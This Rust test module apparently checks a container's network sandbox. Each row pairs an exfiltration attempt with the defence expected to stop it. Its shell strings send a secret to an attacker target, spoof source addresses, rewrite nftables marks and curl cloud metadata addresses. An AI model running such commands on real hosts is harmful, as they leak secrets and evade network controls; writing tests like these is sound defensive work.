//! Packets past everything that listens on ports: other protocols, other addresses, whole frames.

use std::net::SocketAddr;

use crate::pairing::Family;
use crate::row::{Need, ROW, Row, Trace};
use crate::scene::Scene;

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "tcp_and_udp_to_any_port",
        attack: "connections and datagrams to the attacker's machine, on ports for web, DNS, SSH, QUIC and none of them",
        defence: "what no rule could allow is refused at once; web ports and DNS go to the proxy",
        script: |scene| {
            let send = |kind: &str, port: u16| {
                format!(
                    "attacker send {kind} {} {}",
                    SocketAddr::new(scene.target(), port),
                    scene.secret
                )
            };
            let tcp = [22, 53, 80, 443, 5432, 8080].map(|port| send("tcp", port));
            let udp = [53, 443, 5353, 9999].map(|port| send("udp", port));
            tcp.into_iter().chain(udp).collect::<Vec<_>>().join("; ")
        },
        recorded: Some(Trace::Target),
        ..ROW
    },
    Row {
        name: "whole_frames_past_the_containers_own_kernel",
        attack: "datagrams as Ethernet frames, to the gateway and to everyone, past queues and the container's own firewall",
        defence: "every link ends in the gateway, whose rules see what arrives, however it was sent",
        script: |scene| {
            format!(
                "attacker-raw frames eth0 {} {}",
                scene.target(),
                scene.secret
            )
        },
        ..ROW
    },
    Row {
        name: "protocols_that_nobody_thinks_of",
        attack: "ICMP, IGMP, GRE, ESP, OSPF, SCTP and others through raw sockets",
        defence: "only TCP, UDP and DNS can be allowed; everything else is refused",
        script: |scene| format!("attacker-raw raw {} {}", scene.target(), scene.secret),
        ..ROW
    },
    Row {
        name: "addresses_that_are_not_its_own",
        attack: "datagrams in the attacker's, a neighbour's and the gateway's name",
        defence: "the source of what comes from the container must be the container's",
        script: |scene| {
            let secret = &scene.secret;
            let sources = [scene.target(), scene.neighbour()];
            sources
                .map(|source| format!("attacker-raw speak closed-port {source} {secret}"))
                .join(" && ")
        },
        ..ROW
    },
    Row {
        name: "multicast_and_broadcast",
        attack: "datagrams to everyone on the bridge: mDNS, SSDP, all nodes, the bridge's broadcast address",
        defence: "nothing that isn't marked has a route, and no rule lets these pass",
        script: |scene| {
            let secret = &scene.secret;
            let targets = match scene.circumstances.family {
                Family::V4 => [
                    "224.0.0.251:5353",
                    "239.255.255.250:1900",
                    "172.17.255.255:138",
                    "255.255.255.255:67",
                ]
                .as_slice(),
                Family::V6 => [
                    "[ff02::fb%$link]:5353",
                    "[ff02::1%$link]:9999",
                    "[ff05::c%$link]:1900",
                ]
                .as_slice(),
            };
            let sends = targets
                .iter()
                .map(|target| format!("attacker send udp \"{target}\" {secret}"));
            format!(
                "link=$(cat /sys/class/net/eth0/ifindex); {}",
                sends.collect::<Vec<_>>().join("; ")
            )
        },
        ..ROW
    },
    Row {
        name: "metadata_services",
        attack: "the addresses under which clouds tell secrets, by datagram and by HTTP",
        defence: "special ranges are never dialled, whatever a rule by name says",
        script: to_metadata,
        ..ROW
    },
    Row {
        name: "metadata_services_in_observe_mode",
        attack: "the same from a container that is observed: all that no rule allows passes there",
        defence: "what is never open stays shut, whatever the mode",
        script: to_metadata,
        settings: "-observing",
        ..ROW
    },
    Row {
        name: "marks_and_routes_of_its_own",
        attack: "the container's own nf_tables, marks and routes: those that the gateway uses, too",
        defence: "rules and routes that count are the gateway's; a container's end at its own namespace",
        needs: &[Need::NetAdmin],
        script: |scene| {
            let to = SocketAddr::new(scene.target(), 9999);
            format!(
                "nft flush ruleset; nft add table inet m; nft add chain inet m o '{{ type route hook output priority 0; }}' || exit 1
                 /bin/ip rule add lookup main
                 for mark in 1 2 0x10 0xb0 0xb1 0xb5 0xb6 0xff 0xffffffff; do
                   nft flush chain inet m o; nft add rule inet m o meta mark set $mark; attacker send udp {to} {}
                 done; nft flush ruleset",
                scene.secret
            )
        },
        ..ROW
    },
    Row {
        name: "foreign_addresses_and_links_of_its_own",
        attack: "addresses of others on the container's interface, and a macvlan link above it",
        defence: "the source of what comes from the container must be the container's",
        needs: &[Need::NetAdmin, Need::Only(Family::V4)],
        script: with_foreign_addresses,
        ..ROW
    },
];

fn with_foreign_addresses(scene: &Scene<'_>) -> String {
    let (target, secret) = (scene.target(), &scene.secret);
    format!(
        "set -e; /bin/ip addr add 198.51.100.77/32 dev eth0; /bin/ip addr add 172.17.99.99/16 dev eth0
         /bin/ip link add link eth0 name ev0 type macvlan; /bin/ip link set ev0 up; /bin/ip addr add 10.9.9.9/24 dev ev0
         for source in 198.51.100.77 172.17.99.99 10.9.9.9; do attacker send udp {target}:9999 {secret} from $source; done"
    )
}

/// The secret, to where clouds tell theirs.
fn to_metadata(scene: &Scene<'_>) -> String {
    let secret = &scene.secret;
    let addresses = match scene.circumstances.family {
        Family::V4 => [
            "169.254.169.254",
            "169.254.170.2",
            "100.100.100.200",
            "168.63.129.16",
        ]
        .as_slice(),
        Family::V6 => ["[fd00:ec2::254]"].as_slice(),
    };
    let tries = addresses.iter().map(|address| {
        format!(
            "attacker send udp {address}:80 {secret}; curl -g -sS -m 2 http://{address}/{secret}"
        )
    });
    format!("{}; :", tries.collect::<Vec<_>>().join("; "))
}
